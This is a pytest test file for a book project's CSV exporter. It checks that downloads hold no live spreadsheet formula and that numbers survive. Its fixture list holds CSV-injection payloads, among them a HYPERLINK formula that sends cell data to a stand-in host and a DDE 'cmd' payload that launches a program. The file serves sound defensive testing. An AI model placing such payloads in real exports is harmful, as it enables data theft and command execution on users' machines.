"""Downloads are safe to open: no cell of a CSV the book offers is a formula a spreadsheet would
run (OWASP's CSV-injection list: =, +, -, @, tab, carriage return), and numbers stay numbers."""

import csv
import io
import math

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from analysis import chapter
from analysis.data.formulas import FORMULA_STARTS, is_live_formula, neutralise_formulas, safe_cell
from analysis.project import PROJECT_ROOT

HOSTILE = [
    '=HYPERLINK("http://example.org/x?d="&A1,"klik")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "-",
    "--- catatan",
    "+62 812 3456 x",
    "catatan\r=1+1",
]


def is_number(text: str) -> bool:
    """A number as a spreadsheet reads one: finite, without Python's extras (``inf``, ``nan``,
    ``1_000``, surrounding spaces), which a spreadsheet takes for text or a formula."""
    try:
        value = float(text)
    except ValueError:
        return False
    return math.isfinite(value) and "_" not in text and text == text.strip()


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_a_download_holds_no_live_formula_and_keeps_its_numbers(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    frame = pd.DataFrame(
        {
            "description": HOSTILE,
            "change": [-3.5, -0.25, 1.0, -1e-9, 0.0, 2.0, -7.0, -1.5, 3.0, -2.0, -11.0],
            "n": [-3, -2, -1, 0, 1, 2, 3, 4, 5, 6, -100],
            "as_text": ["-3.5", "+62", "-1e-3", ".5", "=", "@", "-x", "1", "2", "-0", "+"],
        }
    )
    frame["category"] = pd.Categorical(["=A1", "b"] * 5 + ["b"])
    chapter.download(frame, "hostile", "Hostile", head=None, edition="illustrative")
    rows = cells((tmp_path / "downloads" / "hostile.csv").read_text(encoding="utf-8"))
    header, body = rows[0], rows[1:]
    live = [cell for row in rows for cell in row if is_live_formula(cell)]
    assert live == []
    assert not any(c.startswith(FORMULA_STARTS) and not is_number(c) for row in rows for c in row)
    # one row per row of the frame, each cell in its column (a carriage return ends no row)
    assert len(body) == len(frame) and {len(row) for row in rows} == {len(header)}
    # the hostile text is kept, behind a single quote (a carriage return as a line feed)
    assert [row[header.index("description")] for row in body] == [
        ("'" if t.startswith(FORMULA_STARTS) else "") + t.replace("\r", "\n") for t in HOSTILE
    ]
    # numbers are numbers: negative ones written as numbers, read back as numbers
    back = pd.read_csv(tmp_path / "downloads" / "hostile.csv")
    assert back["change"].tolist() == frame["change"].tolist()
    assert back["n"].tolist() == frame["n"].tolist()
    # text that reads as a plain number is left as it is; other text starting with - is quoted
    assert [row[header.index("as_text")] for row in body] == [
        "-3.5", "+62", "-1e-3", ".5", "'=", "'@", "'-x", "1", "2", "-0", "'+",
    ]  # fmt: skip
    assert {row[header.index("category")] for row in body} == {"'=A1", "b"}


def test_column_names_are_neutralised_too():
    frame = pd.DataFrame({"=cmd()": ["a"], "-x": [1], "ok": [-2]})
    assert list(neutralise_formulas(frame).columns) == ["'=cmd()", "'-x", "ok"]
    assert neutralise_formulas(frame)["ok"].tolist() == [-2]


def test_the_frame_given_is_not_changed():
    frame = pd.DataFrame({"t": ["=1"]})
    neutralise_formulas(frame)
    assert frame["t"].tolist() == ["=1"]


@settings(max_examples=200, deadline=None)
@given(st.one_of(st.text(max_size=20), st.floats(allow_nan=False), st.integers()))
def test_no_cell_is_left_live_and_a_safe_cell_is_kept_as_it_is(cell):
    safe = safe_cell(cell)
    assert not is_live_formula(safe)
    if not isinstance(cell, str):
        assert safe == cell
        return
    assert "\r" not in safe
    text = cell.replace("\r\n", "\n").replace("\r", "\n")
    if not cell.startswith(FORMULA_STARTS):
        assert safe == text
    else:
        assert safe in (text, "'" + text)
        assert safe == text or not is_number(cell)


COMMITTED = sorted(PROJECT_ROOT.glob("book/chapters/**/downloads/*.csv"))


@pytest.mark.skipif(not COMMITTED, reason="no executed chapters with downloads")
def test_the_books_downloads_hold_no_live_formula():
    """Over the committed downloads (book/chapters/**/downloads/*.csv): written by the executed
    chapters, so this checks the neutralising as of their last execution (it holds for the
    shipped data, whose downloads start with no formula character but in negative numbers)."""
    live = [
        (path.relative_to(PROJECT_ROOT).as_posix(), cell)
        for path in COMMITTED
        for row in cells(path.read_text(encoding="utf-8"))
        for cell in row
        if is_live_formula(cell)
    ]
    assert live == []
